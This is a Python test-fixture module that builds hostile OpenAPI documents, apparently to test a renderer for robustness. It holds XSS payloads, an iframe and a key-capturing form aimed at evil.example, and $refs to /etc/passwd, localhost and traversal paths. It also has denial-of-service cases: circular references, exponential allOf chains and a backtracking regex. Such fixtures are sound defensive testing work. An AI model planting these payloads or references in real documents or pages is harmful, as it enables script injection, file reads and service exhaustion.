"""API documents that somebody made to hurt: each is small to write down and costly to read."""

from collections.abc import Callable, Mapping
from functools import reduce
from typing import Any, Final

Document = Mapping[str, Any]
DEPTH: Final = 12
PAYLOADS: Final = (
    '<script>alert("x")</script>',
    '<img src=x onerror="alert(1)">',
    "[press](javascript:alert(1)) <javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="https://evil.example"></iframe>',
    "</textarea></pre></title><style>*{display:none}</style>",
    "![x](https://evil.example/pixel.png)",
    '<form action="https://evil.example"><input name="key"></form>',
    "\0 \ud800 \u202e",
)
HOSTILE_TEXT: Final = "\n\n".join(PAYLOADS)


def at(name: str) -> Document:
    """Return a reference to a schema."""
    return {"$ref": f"#/components/schemas/{name}"}


def operation(**more: object) -> dict[str, Any]:
    """Return a path item with the operation ``o``, which answers the schema A."""
    media = {"application/json": {"schema": at("A")}}
    answers = {"200": {"description": "It.", "content": media}}
    return {"get": {"operationId": "o", "responses": answers, **more}}


def document(schemas: Document | None = None, **more: object) -> Document:
    """Return a document with these schemas and the operation ``o``."""
    return {
        "openapi": "3.1.0",
        "info": {"title": "Shop", "version": "1"},
        "paths": {"/a": operation()},
        "components": {"schemas": schemas or {"A": {}}},
        **more,
    }


def described(text: str) -> Document:
    """Return a document with this description."""
    return document(info={"title": "Shop", "version": "1", "description": text})


def chain(first: Document, each: Callable[[Document], Document]) -> Document:
    """Return schemas A, B1 to B12, each made of the next by ``each``."""
    steps = {f"B{number}": each(at(f"B{number + 1}")) for number in range(1, DEPTH)}
    return document({"A": first, **steps, f"B{DEPTH}": {"properties": {"x": {}}}})


MANY_MEMBERS: Final = {f"p{number}": {"description": "*x*"} for number in range(9_000)}
NESTED: Document = reduce(lambda inner, _: {"properties": {"x": inner}}, range(45), {})
CALL: Final = {"post": {"responses": {"200": {"description": "It."}}}}

COSTLY: Final[Mapping[str, Document]] = {
    "allOf ten times over, twelve deep": chain(
        {"allOf": [at("B1")] * 10}, lambda following: {"allOf": [following] * 10}
    ),
    "allOf in a circle": document(
        {"A": {"allOf": [at("B"), at("A")]}, "B": {"allOf": [at("A"), at("B")]}}
    ),
    "anyOf ten times over, twelve deep": chain(
        {"anyOf": [at("B1")] * 10}, lambda following: {"anyOf": [following] * 10}
    ),
    "twenty properties, twelve deep": chain(
        {"properties": {f"p{n}": at("B1") for n in range(20)}},
        lambda following: {"properties": {f"p{n}": following for n in range(20)}},
    ),
    "nine thousand properties": document({"A": {"properties": MANY_MEMBERS}}),
    "an enormous enum": document({"A": {"enum": [f"v{number}" for number in range(20_000)]}}),
    "a choice of thousands": document({"A": {"oneOf": [{"type": "string"}] * 9_000}}),
    "nested deep": document({"A": NESTED}),
    "references in a circle": document({"A": at("B"), "B": at("A")}),
    "a reference into itself": document({"A": {"properties": {"x": at("A/properties/x")}}}),
    "path items in a circle": document(
        paths={
            "/a": operation(),
            "/b": {"$ref": "#/paths/~1c"},
            "/c": {"$ref": "#/paths/~1b"},
        }
    ),
    "parameters, answers and examples in circles": document(
        paths={
            "/a": operation(
                parameters=[{"$ref": "#/paths/~1a/get/parameters/0"}],
                responses={
                    "200": {"$ref": "#/paths/~1a/get/responses/200"},
                    "201": {
                        "description": "It.",
                        "content": {
                            "a/b": {
                                "examples": {
                                    "x": {
                                        "$ref": "#/paths/~1a/get/responses/201/content/"
                                        "a~1b/examples/x"
                                    }
                                }
                            }
                        },
                    },
                },
            )
        }
    ),
    "discriminators in a circle": document(
        {
            "A": {
                "oneOf": [at("A"), at("B")],
                "discriminator": {
                    "propertyName": "t",
                    "mapping": {"a": "#/components/schemas/A", "b": "B"},
                },
            },
            "B": {"allOf": [at("A")]},
        }
    ),
    "references to everywhere": document(
        {
            "A": {
                "properties": {
                    "file": {"$ref": "file:///etc/passwd"},
                    "web": {"$ref": "http://127.0.0.1:1/x.json#/a"},
                    "up": {"$ref": "../../../../etc/passwd"},
                    "pointer": {"$ref": "#/components/schemas/../../../x"},
                    "nothing": {"$ref": "#"},
                }
            }
        }
    ),
    "a pattern that never ends": document(
        {"A": {"type": "string", "pattern": "^(a+)+$", "example": "a" * 40 + "!"}}
    ),
    "thousands of tags": document(
        tags=[{"name": f"t{number}", "description": "*x*"} for number in range(2_000)],
        paths={
            "/a": operation(),
            **{f"/{n}": {"get": {"tags": [f"t{n}"], "responses": {}}} for n in range(2_000)},
        },
    ),
    "one id for all": document(
        paths={
            "/a": operation(),
            **{f"/{n}": {"get": {"operationId": "o"}} for n in range(4_000)},
        }
    ),
    "an example of a megabyte": document(
        paths={
            "/a": operation(
                requestBody={"content": {"application/json": {"example": {"x": "y" * 1_000_000}}}}
            )
        }
    ),
    "hundreds of callbacks": document(
        paths={
            "/a": operation(
                callbacks={f"c{n}": {f"e{m}": CALL for m in range(20)} for n in range(20)}
            )
        }
    ),
    "thousands of answers and headers": document(
        paths={
            "/a": operation(
                responses={
                    f"{status}": {
                        "description": "It.",
                        "headers": {f"h{n}": {"schema": {"type": "string"}} for n in range(50)},
                    }
                    for status in range(100, 600)
                }
            )
        }
    ),
    "brackets": described("[" * 50_000),
    "stars": described("*a " * 30_000),
    "nothing of what is expected": document(
        {"A": {"properties": [1], "required": {"a": 1}, "allOf": "x", "type": 5, "enum": {"a": 1}}},
        tags={"a": 1},
        servers="x",
        security={"a": 1},
    ),
}


def hostile_text(text: str = HOSTILE_TEXT) -> Document:
    """Return a document that has the text wherever it may have one."""
    names = {"name": text, "title": text, "summary": text, "description": text}
    docs = {"url": "javascript:alert(1)", "description": text}
    schema = {
        **names,
        "type": "object",
        "properties": {text: {**names, "type": "string", "example": text, "pattern": text}},
        "required": [text],
        "enum": [text],
        "default": text,
        "externalDocs": docs,
        "x-text": text,
    }
    given = {"parameters": [{**names, "in": "query", "required": True, "schema": schema}]}
    media = {"application/json": {"schema": schema, "examples": {text: {"value": text}}}}
    answer = {"description": text, "headers": {text: schema}, "content": media}
    return {
        "openapi": "3.1.0",
        "info": {
            **names,
            "version": text,
            "termsOfService": "javascript:alert(1)",
            "contact": {"name": text, "url": "javascript:alert(1)", "email": text},
            "license": {"name": text, "url": "data:text/html,x"},
        },
        "externalDocs": docs,
        "tags": [{**names, "externalDocs": docs}],
        "servers": [{"url": text, "description": text, "variables": {text: {"default": text}}}],
        "security": [{text: [text]}],
        "paths": {
            "/a": operation(
                **names,
                **given,
                tags=[text],
                externalDocs=docs,
                requestBody={"description": text, "content": media},
                responses={"200": {**answer, "links": {text: {"description": text}}}},
                callbacks={text: {text: CALL}},
            )
        },
        "webhooks": {text: CALL},
        "components": {
            "schemas": {"A": schema, text: schema},
            "securitySchemes": {
                text: {
                    **names,
                    "type": "oauth2",
                    "flows": {
                        "clientCredentials": {
                            "tokenUrl": "javascript:alert(1)",
                            "scopes": {text: text},
                        }
                    },
                }
            },
        },
    }
